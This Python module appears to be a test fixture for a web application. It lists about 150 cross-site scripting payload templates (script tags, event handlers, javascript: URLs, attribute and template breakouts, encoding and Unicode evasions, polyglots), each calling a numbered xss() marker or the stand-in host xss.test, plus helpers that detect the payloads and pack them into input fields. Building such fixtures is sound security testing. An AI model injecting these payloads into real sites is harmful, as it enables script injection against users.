"""Scripts as strangers write them into fields; each is known by the number in its `xss(N)`."""

import re

MOST = 700  # characters at once

# What a payload calls is noticed by the canary of `test_scripts.py`; where it names an address, a
# request to it is. `#` stands for its number.
TEMPLATES = (
    # Elements
    "<script>xss(#)</script>", "<ScRiPt>xss(#)</sCrIpT>", "<script >xss(#)</script >",
    "<script/x>xss(#)</script>", "<script\n>xss(#)</script\n>", "<script\t>xss(#)</script\t>",
    "<script src=//xss.test/#></script>", "<script src=data:,xss(#)></script>",
    "<script type=module>xss(#)</script>", "<scr<script>ipt>xss(#)</scr</script>ipt>",
    "<<script>xss(#)//<</script>", "<script>xss(#)<!--", "</script><script>xss(#)</script>",
    "<noscript><p title='</noscript><img src=x onerror=xss(#)>'>",
    # Handlers
    "<img src=x onerror=xss(#)>", "<img/src=x/onerror=xss(#)>", "<img src=x onerror='xss(#)'",
    '<img src="x" onerror="xss(#)">', "<img src=x onerror=xss`#`>", "<IMG SRC=x OnErRoR=xss(#)>",
    "<image src=x onerror=xss(#)>", "<body onload=xss(#)>", "<svg onload=xss(#)>",
    "<svg/onload=xss(#)>", "<svg><script>xss(#)</script></svg>", "<svg><script>xss&#40;#)</script>",
    "<svg><animate onbegin=xss(#) attributeName=x dur=1s>", "<svg><set onbegin=xss(#)>",
    "<svg><a xlink:href=javascript:xss(#)><text y=9>x</text></a></svg>",
    "<svg><use href=data:image/svg+xml,<svg/onload=xss(#)>>",
    "<svg><foreignObject><iframe onload=xss(#)></foreignObject></svg>",
    "<svg><style><img src=x onerror=xss(#)></style>", "<math><mi xlink:href=javascript:xss(#)>x",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss(#)>",
    "<details open ontoggle=xss(#)>", "<input autofocus onfocus=xss(#)>",
    "<select autofocus onfocus=xss(#)>", "<textarea autofocus onfocus=xss(#)>",
    "<video src=x onerror=xss(#)>", "<video><source onerror=xss(#)></video>",
    "<audio src=x onerror=xss(#)>", "<marquee onstart=xss(#)>x</marquee>",
    "<p onmouseover=xss(#)>x</p>", "<p tabindex=0 onfocus=xss(#) autofocus>", "<b onclick=xss(#)>b",
    "<style onload=xss(#)></style>", "<link rel=stylesheet href=x onerror=xss(#)>",
    "<object data=x onerror=xss(#)>", "<p onpointerrawupdate=xss(#)>x", "<xss# onfocus=xss(#)>",
    "<dialog open onclose=xss(#)>", "<p style=animation-name:x onanimationstart=xss(#)>",
    # Addresses
    "javascript:xss(#)", "JaVaScRiPt:xss(#)", "java\tscript:xss(#)", " javascript:xss(#)",
    "javascript://desk.test/%0axss(#)", "jav&#x09;ascript:xss(#)", "&#106;avascript:xss(#)",
    "vbscript:xss(#)", "data:text/html,<script>xss(#)</script>",
    "data:text/html;base64,PHNjcmlwdD54c3Mo#", "data:image/svg+xml,<svg onload=xss(#)>",
    "<a href=javascript:xss(#)>x</a>", "<a href=JAVASCRIPT:xss(#)>x</a>",
    "<a href='java\nscript:xss(#)'>x</a>", "<a href=data:text/html,xss(#)>x</a>",
    "<form action=javascript:xss(#)><button>x</button></form>",
    "<button formaction=javascript:xss(#)>",
    "<iframe src=javascript:xss(#)>", "<iframe srcdoc='<script>parent.xss(#)</script>'>",
    "<embed src=javascript:xss(#)>", "<object data=javascript:xss(#)>", "<base href=//xss.test/#/>",
    "<meta http-equiv=refresh content='0;url=javascript:xss(#)'>", "<img src=//xss.test/#>",
    "<meta http-equiv=refresh content='9;//xss.test/#'>", "<link rel=stylesheet href=//xss.test/#>",
    "<link rel=prefetch href=//xss.test/#>", "<img srcset=//xss.test/#>",
    "<input type=image src=//xss.test/#>", "<table background=//xss.test/#>",
    # Out of an attribute, an element, a comment
    '"><script>xss(#)</script>', "'><script>xss(#)</script>", '"><img src=x onerror=xss(#)>',
    "'><svg onload=xss(#)>", '" onmouseover="xss(#)', "' onmouseover='xss(#)",
    '" autofocus onfocus="xss(#)', "' autofocus onfocus='xss(#)", "x onfocus=xss(#) autofocus",
    "` onmouseover=xss(#)", '\\"><img src=x onerror=xss(#)>', "\\'><img src=x onerror=xss(#)>",
    "</title><script>xss(#)</script>", "</textarea><script>xss(#)</script>",
    "</style><script>xss(#)</script>", "</option></select><img src=x onerror=xss(#)>",
    "--><script>xss(#)</script>", "]]><script>xss(#)</script>",
    "</template><img src=x onerror=xss(#)>",
    "</text></svg><img src=x onerror=xss(#)>", "<!--<img src='--><img src=x onerror=xss(#)>'>",
    "<![CDATA[<img src=x onerror=xss(#)>]]>", "</td></tr></table><img src=x onerror=xss(#)>",
    "<plaintext>xss(#)", "<!--xss(#)", "<?xss(#)?><img src=x onerror=xss(#)>",
    # Out of a script, JSON or a template
    "';xss(#);//", '";xss(#);//', "\\';xss(#);//", "</script><img src=x onerror=xss(#)>",
    "-xss(#)-", "${xss(#)}", "`;xss(#);`", "{{constructor.constructor('xss(#)')()}}",
    "{{xss(#)}}", "{% debug %}{{ xss(#)|safe }}", "<%= xss(#) %>", "#{xss(#)}", "[[xss(#)]]",
    '{"a":"<img src=x onerror=xss(#)>"}', "\\u003cimg src=x onerror=xss(#)\\u003e",
    # Markdown, styles
    "[x](javascript:xss(#))", "![x](x\"onerror=\"xss(#))", "<javascript:xss(#)>",
    "[x]: javascript:xss(#)", "<style>@import '//xss.test/#';</style>",
    "<p style=background:url(//xss.test/#)>", '" style="background:url(//xss.test/#)',
    "<style>*{background:url(//xss.test/#)}</style>", "expression(xss(#))",
    # Letters that are not what they seem
    "&lt;script&gt;xss(#)&lt;/script&gt;", "&#60;script&#62;xss(#)&#60;/script&#62;",
    "%3Cscript%3Exss(#)%3C/script%3E", "\uff1cscript\uff1exss(#)\uff1c/script\uff1e",
    "\u202e<script>xss(#)</script>\u202c", "\u2066\"><img src=x onerror=xss(#)>\u2069",
    "<img src=x onerror\u3000=xss(#)>", "<img src=x\u2028onerror=xss(#)>", "<scr\u00adipt>xss(#)",
    "<\u017fcript>xss(#)</\u017fcript>", "\ufeff<script>xss(#)</script>",
    "<img src=x onerror\x0c=xss(#)>",
    "<img src=x onerror\x0b=xss(#)>", "\x1b<img src=x onerror=xss(#)>", "+ADw-script+AD4-xss(#)",
    "\u00bcscript\u00bexss(#)\u00bc/script\u00be", "<a\x01href=javascript:xss(#)>x",
    # Names of files, subjects of mails
    "<img src=x onerror=xss(#)>.pdf", '"><svg onload=xss(#)>.png', "a.pdf\" onerror=\"xss(#)",
    "..\\<svg onload=xss(#)>.docx", "=?utf-8?q?=3Cscript=3Exss(#)?=", "Re: <svg/onload=xss(#)>",
    "\"<script>xss(#)</script>\"@xss.test", "x@xss.test\"><script>xss(#)</script>",
    # In many places at once
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=xss(#) )//</stYle/</titLe/</teXtarEa/</scRipt/"
    "--!>\\x3csVg/<sVg/oNloAd=xss(#)//>",
    "'\"--></style></script><svg onload=xss(#)>",
    "'\">><marquee><img src=x onerror=xss(#)></marquee>",
    "\"'`><img src=x onerror=xss(#)>", "*/xss(#)/*'\"</textarea><svg/onload=xss(#)>",
)  # fmt: skip
PAYLOADS = tuple(text.replace("#)", f"{n})").replace("`#`", f"`{n}`").replace("/#", f"/{n}")
                 .replace("xss#", f"xss{n}").replace("54c3Mo#", f"54c3Mo#xss({n})")
                 for n, text in enumerate(TEMPLATES))  # fmt: skip
_NUMBER = re.compile(r"xss(?:\(|`|%28|&(?:amp;)?#40;|\.test/)?(\d+)", re.IGNORECASE)


def numbers(text: str) -> set[int]:
    """The payloads a page shows, in whatever spelling."""
    return {int(found) for found in _NUMBER.findall(text)}


def packs(width: int | None) -> list[str]:
    """All payloads that fit into a column, as many at once as it holds."""
    room = min(width or MOST, MOST)
    found = [""]
    for one in PAYLOADS:
        if len(found[-1]) + 1 + len(one) <= room:
            found[-1] = f"{found[-1]}\n{one}".lstrip("\n")
        elif len(one) <= room:
            found.append(one)
    return [pack for pack in found if pack]
